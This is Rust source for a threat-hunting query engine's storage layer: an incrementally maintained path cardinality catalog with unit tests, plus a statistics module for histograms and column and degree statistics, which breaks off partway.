//! * [`value`] — [`Value`] (Null / Int / Str-as-`Sym`) and the columnar
//!   [`ResultBatch`]: the internal currency of query results. String cells
//!   are handles into the shared dictionary plane
//!   (`raptor_common::SharedDict`) both backends intern into, so equality
//!   is an integer compare end-to-end; rendering to display strings
//!   happens once, at the edge.
//! * [`request`] — typed descriptions of the two pattern shapes the
//!   scheduler issues: [`EventPatternQuery`] (event patterns with
//!   pushed-down predicates and propagated `IN` id sets) and
//!   [`PathPatternQuery`] (variable-length path patterns).
//! * [`backend`] — the [`StorageBackend`] trait both stores implement
//!   *without* going through their text parsers, plus [`BackendStats`], the
//!   unified execution counters. Every future backend (sharded, async,
//!   columnar) plugs in here.
//! * [`stats`] — the statistics plane: [`TableStats`]/[`ColumnStats`]
//!   (row/distinct counts, top-k value frequencies, scaling equi-width
//!   histograms) and per-class [`DegreeStats`], maintained incrementally on
//!   the write path and served scan-free through
//!   [`StorageBackend::stats`]. The engine's cost-based scheduler and the
//!   relational planner's index selection both read from here.
//!
//! The SQL/Cypher text parsers remain the entry point for the giant-query
//! baseline modes; this crate deliberately knows nothing about them.

pub mod backend;
pub mod catalog;
pub mod request;
pub mod stats;
pub mod value;

pub use backend::{AttrSource, BackendStats, Field, FieldValue, MutableBackend, StorageBackend};
pub use catalog::{path_catalog_enabled, CanonicalCatalog, PathCatalog, CATALOG_K};
pub use request::{CmpOp, EntityClass, EntitySel, EventPatternQuery, PathPatternQuery, Pred};
pub use stats::{
    CanonicalStats, ColumnStats, DegreeStats, Histogram, MinMax, StoreStats, TableStats,
};
pub use value::{PatternMatches, ResultBatch, Value, ValueColumn};
