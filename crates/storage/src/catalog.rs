//! The path cardinality catalog: exact bounded-length walk counts
//! maintained incrementally below the [`crate::MutableBackend`] write seam.
//!
//! The degree-power path estimator (see `raptor-engine::estimate`) assumes
//! every hop fans out by the store-wide mean degree, which wildly
//! overestimates stores whose adjacency is *directional* (processes write
//! files, files rarely point anywhere). This module replaces assumption
//! with measurement, à la Pathce's pattern catalogs:
//!
//! * `walks(k, c, d)` — the **exact** number of length-`k` event-edge walks
//!   from a class-`c` node to a class-`d` node, for `k ≤ `[`CATALOG_K`]
//!   (intermediate nodes unconstrained, mirroring TBQL path semantics),
//! * `op_pairs` — per `(src-class, optype, dst-class)` edge counts, the
//!   final-hop operation selectivities path patterns end on,
//! * bounded k-hop **frontier summaries** (`ends2`/`starts2`): per node, how
//!   many length-2 walks end/start there keyed by the far endpoint's class —
//!   both the O(degree) maintenance trick below and the seed data for
//!   frontier-cache estimation,
//! * `reachable_pairs(c, d)` — `|{c-nodes with out-edges}| × |{d-nodes with
//!   in-edges}|`, the hard upper bound on distinct path endpoints any
//!   estimate is clamped to.
//!
//! **Maintenance is exact and insertion-order independent.** Walk counts
//! count *walks* (edges may repeat), so inserting edge `e = u→v` adds
//! exactly the walks that use `e` at least once, all computable from the
//! pre-insert state: `e` as first edge (`starts2[v]`), middle edge
//! (in-neighbours of `u` × out-neighbours of `v`, aggregated by class),
//! last edge (`ends2[u]`), plus the `u→v→u→v` double-use correction (one
//! per pre-existing `v→u` edge). Cost per insert is
//! `O(in_deg(u) + out_deg(v))`. Self-loop edges are counted at length 1 and
//! in `op_pairs` but excluded from multi-hop walks: a self-loop makes walk
//! counts diverge from anything a bounded path matcher returns, and
//! excluding them keeps every update expressible from pre-insert state.
//!
//! The catalog rides [`crate::StoreStats`], so bulk load, streaming ingest
//! and raw inserts produce identical catalogs by construction. The
//! `RAPTOR_PATH_CATALOG=0` environment escape hatch disables maintenance
//! (and with it decomposition estimates and frontier reuse downstream).

use raptor_common::hash::FxHashMap;
use raptor_common::intern::{SharedDict, Sym};

use crate::request::EntityClass;

/// Maximum walk length cataloged exactly; longer paths extrapolate from the
/// `walks(K)/walks(K-1)` ratio.
pub const CATALOG_K: u32 = 3;

/// `true` unless `RAPTOR_PATH_CATALOG=0` — the documented escape hatch that
/// reverts the engine to degree-power estimates and full per-epoch path
/// re-evaluation.
pub fn path_catalog_enabled() -> bool {
    std::env::var("RAPTOR_PATH_CATALOG").map_or(true, |v| v != "0")
}

type ClassCounts = FxHashMap<EntityClass, u64>;

/// The incrementally-maintained path cardinality catalog. See the module
/// docs for the exact quantities and the maintenance argument.
#[derive(Debug, Clone)]
pub struct PathCatalog {
    enabled: bool,
    /// Non-self-loop event edges, as (neighbour, neighbour-class) multisets.
    out_adj: FxHashMap<i64, Vec<(i64, EntityClass)>>,
    in_adj: FxHashMap<i64, Vec<(i64, EntityClass)>>,
    /// `walks[k-1][(c, d)]`: exact length-`k` walk counts, `k ∈ 1..=CATALOG_K`.
    walks: [FxHashMap<(EntityClass, EntityClass), u64>; CATALOG_K as usize],
    /// Length-2 walks ending at a node, keyed by the walk's start class.
    ends2: FxHashMap<i64, ClassCounts>,
    /// Length-2 walks starting at a node, keyed by the walk's end class.
    starts2: FxHashMap<i64, ClassCounts>,
    /// Edge counts per (src-class, optype, dst-class), self-loops included.
    op_pairs: FxHashMap<(EntityClass, Sym, EntityClass), u64>,
    /// Nodes with ≥1 out-edge / ≥1 in-edge, per class (self-loops count).
    distinct_src: ClassCounts,
    distinct_dst: ClassCounts,
    has_out: raptor_common::hash::FxHashSet<i64>,
    has_in: raptor_common::hash::FxHashSet<i64>,
    edges: u64,
}

impl Default for PathCatalog {
    fn default() -> Self {
        Self::new(path_catalog_enabled())
    }
}

impl PathCatalog {
    pub fn new(enabled: bool) -> Self {
        PathCatalog {
            enabled,
            out_adj: FxHashMap::default(),
            in_adj: FxHashMap::default(),
            walks: Default::default(),
            ends2: FxHashMap::default(),
            starts2: FxHashMap::default(),
            op_pairs: FxHashMap::default(),
            distinct_src: FxHashMap::default(),
            distinct_dst: FxHashMap::default(),
            has_out: raptor_common::hash::FxHashSet::default(),
            has_in: raptor_common::hash::FxHashSet::default(),
            edges: 0,
        }
    }

    /// Whether maintenance is on (the `RAPTOR_PATH_CATALOG` gate).
    pub fn enabled(&self) -> bool {
        self.enabled
    }

    /// Warm means usable: enabled *and* at least one edge recorded. Cold
    /// catalogs send the estimator to its degree-power fallback.
    pub fn is_warm(&self) -> bool {
        self.enabled && self.edges > 0
    }

    /// Total event edges recorded (self-loops included).
    pub fn edge_count(&self) -> u64 {
        self.edges
    }

    /// Exact number of length-`k` walks from class `c` to class `d`
    /// (`0` for `k == 0` or `k > CATALOG_K`).
    pub fn walks(&self, k: u32, c: EntityClass, d: EntityClass) -> u64 {
        if k == 0 || k > CATALOG_K {
            return 0;
        }
        self.walks[(k - 1) as usize].get(&(c, d)).copied().unwrap_or(0)
    }

    /// Edges with operation `op` from class `c` to class `d`.
    pub fn op_pair_count(&self, c: EntityClass, op: Sym, d: EntityClass) -> u64 {
        self.op_pairs.get(&(c, op, d)).copied().unwrap_or(0)
    }

    /// Edges with operation `op` landing on class `d`, any source class.
    pub fn op_into_class(&self, op: Sym, d: EntityClass) -> u64 {
        self.op_pairs.iter().filter(|((_, o, dd), _)| *o == op && *dd == d).map(|(_, n)| n).sum()
    }

    /// All edges landing on class `d`.
    pub fn edges_into_class(&self, d: EntityClass) -> u64 {
        self.op_pairs.iter().filter(|((_, _, dd), _)| *dd == d).map(|(_, n)| n).sum()
    }

    /// Upper bound on distinct (subject, object) path endpoints: sources
    /// with any out-edge times destinations with any in-edge.
    pub fn reachable_pairs(&self, c: EntityClass, d: EntityClass) -> u64 {
        self.distinct_src.get(&c).copied().unwrap_or(0)
            * self.distinct_dst.get(&d).copied().unwrap_or(0)
    }

    /// Registers one event edge `u → v` with operation `op`. `cu`/`cv` are
    /// the endpoints' entity classes (callers resolve them from the stats
    /// plane's node registry; edges whose endpoints were never registered
    /// are invisible to the catalog, matching the degree summaries).
    pub fn record_edge(&mut self, u: i64, v: i64, cu: EntityClass, cv: EntityClass, op: Sym) {
        if !self.enabled {
            return;
        }
        self.edges += 1;
        *self.op_pairs.entry((cu, op, cv)).or_insert(0) += 1;
        *self.walks[0].entry((cu, cv)).or_insert(0) += 1;
        if self.has_out.insert(u) {
            *self.distinct_src.entry(cu).or_insert(0) += 1;
        }
        if self.has_in.insert(v) {
            *self.distinct_dst.entry(cv).or_insert(0) += 1;
        }
        if u == v {
            // Self-loops are excluded from multi-hop walks (module docs).
            return;
        }

        // Everything below reads *pre-insert* state: aggregate the
        // neighbourhoods by class, note pre-existing back edges `v → u`.
        let mut in_by_class = ClassCounts::default();
        for &(_, cw) in self.in_adj.get(&u).into_iter().flatten() {
            *in_by_class.entry(cw).or_insert(0) += 1;
        }
        let mut out_by_class = ClassCounts::default();
        let mut back_edges = 0u64;
        for &(x, cx) in self.out_adj.get(&v).into_iter().flatten() {
            *out_by_class.entry(cx).or_insert(0) += 1;
            if x == u {
                back_edges += 1;
            }
        }

        // Length 2: `w→u→v` and `u→v→x`.
        for (&cw, &n) in &in_by_class {
            *self.walks[1].entry((cw, cv)).or_insert(0) += n;
        }
        for (&cx, &n) in &out_by_class {
            *self.walks[1].entry((cu, cx)).or_insert(0) += n;
        }

        // Length 3: the new edge as last / first / middle edge, plus the
        // `u→v→u→v` double-use walks (one per pre-existing back edge).
        if let Some(ends) = self.ends2.get(&u) {
            for (&c, &n) in ends {
                *self.walks[2].entry((c, cv)).or_insert(0) += n;
            }
        }
        if let Some(starts) = self.starts2.get(&v) {
            for (&d, &n) in starts {
                *self.walks[2].entry((cu, d)).or_insert(0) += n;
            }
        }
        for (&cw, &a) in &in_by_class {
            for (&cx, &b) in &out_by_class {
                *self.walks[2].entry((cw, cx)).or_insert(0) += a * b;
            }
        }
        if back_edges > 0 {
            *self.walks[2].entry((cu, cv)).or_insert(0) += back_edges;
        }

        // Frontier summaries gain the new length-2 walks.
        {
            let ends_v = self.ends2.entry(v).or_default();
            for (&cw, &n) in &in_by_class {
                *ends_v.entry(cw).or_insert(0) += n;
            }
        }
        {
            let starts_u = self.starts2.entry(u).or_default();
            for (&cx, &n) in &out_by_class {
                *starts_u.entry(cx).or_insert(0) += n;
            }
        }
        // Per-node fan-out of the new walks needs the concrete neighbours.
        let far_out: Vec<i64> =
            self.out_adj.get(&v).into_iter().flatten().map(|&(x, _)| x).collect();
        for x in far_out {
            *self.ends2.entry(x).or_default().entry(cu).or_insert(0) += 1;
        }
        let far_in: Vec<i64> = self.in_adj.get(&u).into_iter().flatten().map(|&(w, _)| w).collect();
        for w in far_in {
            *self.starts2.entry(w).or_default().entry(cv).or_insert(0) += 1;
        }

        self.out_adj.entry(u).or_default().push((v, cv));
        self.in_adj.entry(v).or_default().push((u, cu));
    }

    /// Dictionary-independent, deterministically-ordered view for
    /// equality assertions across independently grown stores (bulk load vs
    /// streaming ingest). Adjacency working state is excluded — it is
    /// implied by the counts.
    pub fn canonical(&self, dict: &SharedDict) -> CanonicalCatalog {
        use std::collections::BTreeMap;
        let name = |c: EntityClass| c.table_name().to_string();
        let mut walks: [BTreeMap<(String, String), u64>; CATALOG_K as usize] = Default::default();
        for (k, m) in self.walks.iter().enumerate() {
            walks[k] = m.iter().map(|(&(c, d), &n)| ((name(c), name(d)), n)).collect();
        }
        CanonicalCatalog {
            enabled: self.enabled,
            edges: self.edges,
            walks,
            op_pairs: self
                .op_pairs
                .iter()
                .map(|(&(c, op, d), &n)| ((name(c), dict.resolve(op).to_string(), name(d)), n))
                .collect(),
            ends2: self
                .ends2
                .iter()
                .filter(|(_, m)| !m.is_empty())
                .map(|(&id, m)| (id, m.iter().map(|(&c, &n)| (name(c), n)).collect()))
                .collect(),
            starts2: self
                .starts2
                .iter()
                .filter(|(_, m)| !m.is_empty())
                .map(|(&id, m)| (id, m.iter().map(|(&c, &n)| (name(c), n)).collect()))
                .collect(),
            distinct_src: self.distinct_src.iter().map(|(&c, &n)| (name(c), n)).collect(),
            distinct_dst: self.distinct_dst.iter().map(|(&c, &n)| (name(c), n)).collect(),
        }
    }
}

/// See [`PathCatalog::canonical`].
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CanonicalCatalog {
    pub enabled: bool,
    pub edges: u64,
    pub walks: [std::collections::BTreeMap<(String, String), u64>; CATALOG_K as usize],
    pub op_pairs: std::collections::BTreeMap<(String, String, String), u64>,
    pub ends2: std::collections::BTreeMap<i64, std::collections::BTreeMap<String, u64>>,
    pub starts2: std::collections::BTreeMap<i64, std::collections::BTreeMap<String, u64>>,
    pub distinct_src: std::collections::BTreeMap<String, u64>,
    pub distinct_dst: std::collections::BTreeMap<String, u64>,
}

#[cfg(test)]
mod tests {
    use super::*;

    const P: EntityClass = EntityClass::Process;
    const F: EntityClass = EntityClass::File;

    fn cat() -> (PathCatalog, Sym, SharedDict) {
        let dict = SharedDict::new();
        let op = dict.intern("read");
        (PathCatalog::new(true), op, dict)
    }

    /// Chain 0→1→2→3 (process→process→process→file): one walk per length.
    #[test]
    fn chain_counts_every_length() {
        let (mut c, op, _) = cat();
        c.record_edge(0, 1, P, P, op);
        c.record_edge(1, 2, P, P, op);
        c.record_edge(2, 3, P, F, op);
        assert_eq!(c.walks(1, P, P), 2);
        assert_eq!(c.walks(1, P, F), 1);
        assert_eq!(c.walks(2, P, P), 1); // 0→1→2
        assert_eq!(c.walks(2, P, F), 1); // 1→2→3
        assert_eq!(c.walks(3, P, F), 1); // 0→1→2→3
        assert_eq!(c.walks(3, P, P), 0);
        assert_eq!(c.reachable_pairs(P, F), 3); // {0,1,2} × {3}
        assert_eq!(c.op_pair_count(P, op, F), 1);
        assert_eq!(c.op_into_class(op, F), 1);
        assert_eq!(c.edges_into_class(P), 2);
    }

    /// Walk counts are a pure function of the edge multiset: every
    /// insertion order of a cyclic, multi-edge graph converges to the same
    /// canonical catalog (the double-use `u→v→u→v` correction included).
    #[test]
    fn order_independent_with_cycles() {
        let dict = SharedDict::new();
        let op = dict.intern("fork");
        // 2-cycle with a parallel edge and a tail: 0⇄1 (0→1 twice), 1→2.
        let edges = [(0i64, 1i64), (0, 1), (1, 0), (1, 2)];
        let classes = |id: i64| if id == 2 { F } else { P };
        let mut perms: Vec<Vec<usize>> = Vec::new();
        // All 4! orders via Heap's algorithm would be overkill; a sample of
        // structurally distinct orders exercises every maintenance branch.
        for perm in
            [[0, 1, 2, 3], [3, 2, 1, 0], [2, 0, 3, 1], [1, 3, 0, 2], [2, 3, 0, 1], [0, 2, 1, 3]]
        {
            perms.push(perm.to_vec());
        }
        let build = |order: &[usize]| {
            let mut c = PathCatalog::new(true);
            for &i in order {
                let (u, v) = edges[i];
                c.record_edge(u, v, classes(u), classes(v), op);
            }
            c.canonical(&dict)
        };
        let reference = build(&perms[0]);
        // Ground truth by enumeration over the final graph.
        // Length 2 P→P: 0→1→0 (×2), 1→0→1 (×2); P→F: 0→1→2 (×2).
        // Length 3 P→P: 0→1→0→1 (×2·1·2), 1→0→1→0 (×1·2·1);
        //          P→F: 1→0→1→2 (×1·2·1).
        assert_eq!(reference.walks[1][&("processes".into(), "processes".into())], 4);
        assert_eq!(reference.walks[1][&("processes".into(), "files".into())], 2);
        assert_eq!(reference.walks[2][&("processes".into(), "processes".into())], 6);
        assert_eq!(reference.walks[2][&("processes".into(), "files".into())], 2);
        for p in &perms[1..] {
            assert_eq!(build(p), reference, "order {p:?}");
        }
    }

    /// Self-loops count at length 1 and in op pairs but never in
    /// multi-hop walks, regardless of surrounding edges.
    #[test]
    fn self_loops_stay_single_hop() {
        let (mut c, op, _) = cat();
        c.record_edge(0, 0, P, P, op);
        c.record_edge(0, 1, P, F, op);
        c.record_edge(0, 0, P, P, op);
        assert_eq!(c.walks(1, P, P), 2);
        assert_eq!(c.walks(1, P, F), 1);
        assert_eq!(c.walks(2, P, P), 0);
        assert_eq!(c.walks(2, P, F), 0);
        assert_eq!(c.op_pair_count(P, op, P), 2);
        // The loop still proves node 0 reaches and is reached.
        assert_eq!(c.reachable_pairs(P, P), 1);
    }

    /// The escape hatch: a disabled catalog records nothing and reports
    /// cold, so downstream consumers fall back.
    #[test]
    fn disabled_catalog_stays_cold() {
        let dict = SharedDict::new();
        let op = dict.intern("read");
        let mut c = PathCatalog::new(false);
        c.record_edge(0, 1, P, F, op);
        assert!(!c.is_warm());
        assert_eq!(c.edge_count(), 0);
        assert_eq!(c.walks(1, P, F), 0);
    }
}
