//! The statistics plane: incrementally-maintained data statistics both
//! backends serve through [`crate::StorageBackend::stats`].
//!
//! The paper's scheduler (Section III-F) scores TBQL patterns *syntactically*
//! — it counts declared constraints, so `exename = '/usr/bin/gpg'` and
//! `name like '%'` weigh the same. The journal version of ThreatRaptor
//! motivates execution-result-constrained ordering instead; that needs real
//! numbers about the data. This module defines those numbers:
//!
//! * [`ColumnStats`] — per-attribute non-null/distinct counts, exact value
//!   frequencies up to a tracking cap (top-k most-common values fall out of
//!   these), and a scaling equi-width [`Histogram`] for numeric/time
//!   columns,
//! * [`TableStats`] — row count plus its columns,
//! * [`DegreeStats`] — per-entity-class adjacency summaries (node count,
//!   out/in edge counts, max degrees) for degree-power path estimation à la
//!   Pathce,
//! * [`StoreStats`] — the whole bundle, keyed by the backend-neutral table
//!   vocabulary (`files` / `processes` / `netconns` / `events`),
//! * [`selectivity`] — estimated match fraction of a typed [`Pred`] against
//!   a [`TableStats`].
//!
//! Everything is maintained **incrementally on the write path** (both
//! backends record every [`crate::MutableBackend`]-style insert — in fact
//! every physical insert, so bulk load and streaming ingest produce
//! identical stats by construction) and served with **zero scans** at query
//! time: accessors only read the maintained maps.

use raptor_common::hash::FxHashMap;
use raptor_common::intern::{SharedDict, Sym};
use raptor_common::like::like_match;

use crate::catalog::PathCatalog;
use crate::request::{CmpOp, EntityClass, Pred};
use crate::value::Value;

/// Distinct values tracked exactly per column. Beyond the cap new values
/// land in an untracked tail counter (existing keys keep exact counts), so
/// memory stays bounded on high-cardinality columns (timestamps, ids) while
/// low-cardinality columns (optype, exename, user) stay exact.
pub const MCV_TRACK_CAP: usize = 4096;

/// Buckets per histogram. The range scales (bucket width doubles, merging
/// neighbors) as out-of-range values arrive, so maintenance is O(1)
/// amortized with O(log range) total merges.
pub const HIST_BUCKETS: usize = 64;

/// Default top-k size served to estimators that want "the most common
/// values" without naming a k.
pub const TOP_K: usize = 8;

/// Assumed match fraction of a LIKE pattern over the *untracked* tail of a
/// capped column (the tracked majority is matched exactly).
const LIKE_TAIL_FRACTION: f64 = 0.5;

/// An incremental min/max extent over `i64` values — the shared machinery
/// behind [`Histogram`]'s bounds and the relational store's per-segment
/// zone maps, so both are maintained on the write path with no second
/// collection pass.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct MinMax {
    min: i64,
    max: i64,
    count: u64,
}

impl MinMax {
    pub fn record(&mut self, v: i64) {
        if self.count == 0 {
            self.min = v;
            self.max = v;
        } else {
            self.min = self.min.min(v);
            self.max = self.max.max(v);
        }
        self.count += 1;
    }

    /// Recorded values (not rows: callers decide what NULL means).
    pub fn count(&self) -> u64 {
        self.count
    }

    /// Smallest recorded value (`None` when empty).
    pub fn min(&self) -> Option<i64> {
        (self.count > 0).then_some(self.min)
    }

    /// Largest recorded value (`None` when empty).
    pub fn max(&self) -> Option<i64> {
        (self.count > 0).then_some(self.max)
    }

    /// Does `[lo, hi]` intersect the recorded extent? `false` when empty.
    pub fn overlaps(&self, lo: i64, hi: i64) -> bool {
        self.count > 0 && lo <= self.max && hi >= self.min
    }
}

/// A scaling equi-width histogram over `i64` values.
///
/// Buckets cover `[origin + i·width, origin + (i+1)·width)`. When a value
/// falls outside the covered range the width doubles (adjacent buckets
/// merge) and, for values below `origin`, the range extends downward.
/// Range estimates stay within about one bucket of exact; the exact bucket
/// boundaries (not the recorded totals) can differ by a bounded factor
/// between insertion orders of the same value set.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Histogram {
    origin: i64,
    width: i64,
    counts: Vec<u64>,
    total: u64,
    extent: MinMax,
}

impl Histogram {
    pub fn total(&self) -> u64 {
        self.total
    }

    pub fn is_empty(&self) -> bool {
        self.total == 0
    }

    /// Smallest recorded value (`None` when empty).
    pub fn min(&self) -> Option<i64> {
        self.extent.min()
    }

    /// Largest recorded value (`None` when empty).
    pub fn max(&self) -> Option<i64> {
        self.extent.max()
    }

    fn bucket_of(&self, v: i64) -> i128 {
        (v as i128 - self.origin as i128).div_euclid(self.width as i128)
    }

    /// Doubles the bucket width in place, keeping `origin` (covers values
    /// above the current range).
    fn grow_up(&mut self) {
        let mut merged = vec![0u64; HIST_BUCKETS];
        for (i, &c) in self.counts.iter().enumerate() {
            merged[i / 2] += c;
        }
        self.counts = merged;
        self.width = self.width.saturating_mul(2);
    }

    /// Doubles the bucket width and shifts `origin` down by the old range,
    /// so the old buckets occupy the upper half (covers values below).
    fn grow_down(&mut self) {
        let old_range = (self.width as i128) * (HIST_BUCKETS as i128);
        let mut merged = vec![0u64; HIST_BUCKETS];
        for (i, &c) in self.counts.iter().enumerate() {
            merged[(HIST_BUCKETS + i) / 2] += c;
        }
        self.counts = merged;
        self.origin =
            (self.origin as i128 - old_range).clamp(i64::MIN as i128, i64::MAX as i128) as i64;
        self.width = self.width.saturating_mul(2);
    }

    pub fn record(&mut self, v: i64) {
        if self.total == 0 {
            self.origin = v;
            self.width = 1;
            self.counts = vec![0; HIST_BUCKETS];
        }
        self.extent.record(v);
        while self.bucket_of(v) < 0 {
            self.grow_down();
        }
        while self.bucket_of(v) >= HIST_BUCKETS as i128 {
            self.grow_up();
        }
        let b = self.bucket_of(v) as usize;
        self.counts[b] += 1;
        self.total += 1;
    }

    /// Estimated fraction of recorded values `<= x`.
    pub fn fraction_le(&self, x: i64) -> f64 {
        if self.total == 0 {
            return 0.0;
        }
        if x < self.extent.min {
            return 0.0;
        }
        if x >= self.extent.max {
            return 1.0;
        }
        let b = self.bucket_of(x);
        let mut below = 0u64;
        for (i, &c) in self.counts.iter().enumerate() {
            if (i as i128) < b {
                below += c;
            }
        }
        // Partial credit inside the containing bucket (uniform assumption).
        let bucket_start = self.origin as i128 + b * self.width as i128;
        let into = (x as i128 - bucket_start + 1) as f64 / self.width as f64;
        let partial = self.counts[b as usize] as f64 * into.clamp(0.0, 1.0);
        (below as f64 + partial) / self.total as f64
    }

    /// Estimated fraction of recorded values in `[lo, hi]` (inclusive).
    pub fn fraction_between(&self, lo: i64, hi: i64) -> f64 {
        if self.total == 0 || hi < lo {
            return 0.0;
        }
        let below_lo = if lo == i64::MIN { 0.0 } else { self.fraction_le(lo - 1) };
        (self.fraction_le(hi) - below_lo).clamp(0.0, 1.0)
    }
}

/// Incrementally-maintained statistics for one column/property. String
/// frequencies are keyed by [`Sym`] into the shared dictionary plane —
/// because both backends intern into the *same* dictionary, relational and
/// graph statistics for the same data compare equal at the symbol level.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct ColumnStats {
    non_null: u64,
    ints: FxHashMap<i64, u64>,
    strs: FxHashMap<Sym, u64>,
    /// Rows whose value was not tracked (the cap was already reached the
    /// first time the value appeared).
    other: u64,
    hist: Histogram,
}

impl ColumnStats {
    fn tracked(&self) -> usize {
        self.ints.len() + self.strs.len()
    }

    pub fn record_int(&mut self, v: i64) {
        self.non_null += 1;
        self.hist.record(v);
        if let Some(c) = self.ints.get_mut(&v) {
            *c += 1;
        } else if self.tracked() < MCV_TRACK_CAP {
            self.ints.insert(v, 1);
        } else {
            self.other += 1;
        }
    }

    pub fn record_sym(&mut self, v: Sym) {
        self.non_null += 1;
        if let Some(c) = self.strs.get_mut(&v) {
            *c += 1;
        } else if self.tracked() < MCV_TRACK_CAP {
            self.strs.insert(v, 1);
        } else {
            self.other += 1;
        }
    }

    /// Non-null values recorded.
    pub fn non_null(&self) -> u64 {
        self.non_null
    }

    /// Distinct-count estimate: tracked values exactly, plus the untracked
    /// tail assumed all-distinct (an upper bound; exact below the cap).
    pub fn distinct(&self) -> u64 {
        self.tracked() as u64 + self.other
    }

    /// Exact frequency of a tracked value; 0 for untracked/unseen values.
    pub fn freq(&self, v: &Value) -> u64 {
        match v {
            Value::Int(i) => self.ints.get(i).copied().unwrap_or(0),
            Value::Str(s) => self.strs.get(s).copied().unwrap_or(0),
            Value::Null => 0,
        }
    }

    /// Estimated fraction of rows equal to `v`. Exact when the column never
    /// overflowed the tracking cap; untracked values are assumed to be one
    /// row of the tail.
    pub fn eq_fraction(&self, v: &Value) -> f64 {
        self.eq_fraction_inner(self.freq(v))
    }

    /// [`ColumnStats::eq_fraction`] without constructing a [`Value`].
    pub fn eq_fraction_int(&self, v: i64) -> f64 {
        self.eq_fraction_inner(self.ints.get(&v).copied().unwrap_or(0))
    }

    /// [`ColumnStats::eq_fraction`] without constructing a [`Value`]. The
    /// symbol-keyed form: typed requests carry pre-interned symbols, so the
    /// estimator never touches the dictionary map.
    pub fn eq_fraction_sym(&self, v: Sym) -> f64 {
        self.eq_fraction_inner(self.strs.get(&v).copied().unwrap_or(0))
    }

    fn eq_fraction_inner(&self, freq: u64) -> f64 {
        if self.non_null == 0 {
            0.0
        } else if freq > 0 {
            freq as f64 / self.non_null as f64
        } else if self.other > 0 {
            1.0 / self.non_null as f64
        } else {
            0.0
        }
    }

    /// Estimated fraction of rows whose string value matches a LIKE
    /// `pattern`. Tracked values are matched exactly (weighted by their
    /// frequencies, resolved through the dictionary); the untracked tail
    /// contributes a flat default.
    pub fn like_fraction(&self, pattern: &str, dict: &SharedDict) -> f64 {
        if self.non_null == 0 {
            return 0.0;
        }
        let matched: u64 = self
            .strs
            .iter()
            .filter(|(v, _)| like_match(pattern, dict.resolve(**v)))
            .map(|(_, c)| c)
            .sum();
        let tail = self.other as f64 * LIKE_TAIL_FRACTION;
        ((matched as f64 + tail) / self.non_null as f64).clamp(0.0, 1.0)
    }

    /// Estimated fraction of rows satisfying `value <op> x` for an integer
    /// comparison, from the histogram.
    pub fn cmp_fraction(&self, op: CmpOp, x: i64) -> f64 {
        match op {
            CmpOp::Eq => self.eq_fraction(&Value::Int(x)),
            CmpOp::Ne => 1.0 - self.eq_fraction(&Value::Int(x)),
            CmpOp::Le => self.hist.fraction_le(x),
            CmpOp::Lt => {
                if x == i64::MIN {
                    0.0
                } else {
                    self.hist.fraction_le(x - 1)
                }
            }
            CmpOp::Ge => 1.0 - if x == i64::MIN { 0.0 } else { self.hist.fraction_le(x - 1) },
            CmpOp::Gt => 1.0 - self.hist.fraction_le(x),
        }
    }

    /// The k most common tracked values with their frequencies, most
    /// frequent first (ties broken by *rendered* value for determinism —
    /// never by handle id, so the order is insertion-order independent).
    pub fn top_k(&self, k: usize, dict: &SharedDict) -> Vec<(Value, u64)> {
        let mut all: Vec<(Value, u64)> = self
            .ints
            .iter()
            .map(|(&v, &c)| (Value::Int(v), c))
            .chain(self.strs.iter().map(|(&v, &c)| (Value::Str(v), c)))
            .collect();
        all.sort_by(|(va, ca), (vb, cb)| {
            cb.cmp(ca).then_with(|| va.render(dict).cmp(&vb.render(dict)))
        });
        all.truncate(k);
        all
    }

    /// The numeric histogram (empty for string columns).
    pub fn histogram(&self) -> &Histogram {
        &self.hist
    }
}

/// Statistics for one table / node label.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct TableStats {
    rows: u64,
    cols: FxHashMap<String, ColumnStats>,
}

impl TableStats {
    pub fn rows(&self) -> u64 {
        self.rows
    }

    pub fn column(&self, name: &str) -> Option<&ColumnStats> {
        self.cols.get(name)
    }

    /// Column names with statistics (sorted, for deterministic display).
    pub fn column_names(&self) -> Vec<&str> {
        let mut names: Vec<&str> = self.cols.keys().map(String::as_str).collect();
        names.sort_unstable();
        names
    }

    pub fn record_row(&mut self) {
        self.rows += 1;
    }

    pub fn record_int(&mut self, column: &str, v: i64) {
        self.col_mut(column).record_int(v);
    }

    /// Records one string value by its shared-dictionary handle (the write
    /// paths have already interned the value into the row/property, so no
    /// extra dictionary lookup happens here).
    pub fn record_sym(&mut self, column: &str, v: Sym) {
        self.col_mut(column).record_sym(v);
    }

    fn col_mut(&mut self, column: &str) -> &mut ColumnStats {
        if !self.cols.contains_key(column) {
            self.cols.insert(column.to_string(), ColumnStats::default());
        }
        self.cols.get_mut(column).expect("just inserted")
    }
}

/// Per-entity-class adjacency summaries, the degree inputs of path-pattern
/// cardinality estimation (Pathce-style degree-power expansion).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct DegreeStats {
    /// Entities of this class.
    pub nodes: u64,
    /// Events whose subject is in this class.
    pub out_edges: u64,
    /// Events whose object is in this class.
    pub in_edges: u64,
    /// Largest out-degree of any single entity in this class.
    pub max_out: u64,
    /// Largest in-degree of any single entity in this class.
    pub max_in: u64,
}

impl DegreeStats {
    pub fn avg_out(&self) -> f64 {
        if self.nodes == 0 {
            0.0
        } else {
            self.out_edges as f64 / self.nodes as f64
        }
    }

    pub fn avg_in(&self) -> f64 {
        if self.nodes == 0 {
            0.0
        } else {
            self.in_edges as f64 / self.nodes as f64
        }
    }
}

/// All statistics one store maintains, served via
/// [`crate::StorageBackend::stats`]. Keys use the backend-neutral table
/// vocabulary ([`EntityClass::table_name`] plus `"events"`); each backend
/// maps its physical names on the way in, so relational and graph stats for
/// the same data are directly comparable (tests assert they are *equal*).
#[derive(Debug)]
pub struct StoreStats {
    /// The shared dictionary plane the symbol-keyed frequencies resolve
    /// through (same handle the owning store interns into).
    dict: SharedDict,
    tables: FxHashMap<String, TableStats>,
    degrees: FxHashMap<EntityClass, DegreeStats>,
    node_class: FxHashMap<i64, EntityClass>,
    out_deg: FxHashMap<i64, u64>,
    in_deg: FxHashMap<i64, u64>,
    catalog: PathCatalog,
}

impl Default for StoreStats {
    /// A fresh stats bundle over its own private dictionary (tests/tools);
    /// stores constructed on the shared plane use [`StoreStats::new`].
    fn default() -> Self {
        Self::new(SharedDict::new())
    }
}

impl StoreStats {
    /// Creates an empty stats bundle resolving through `dict`.
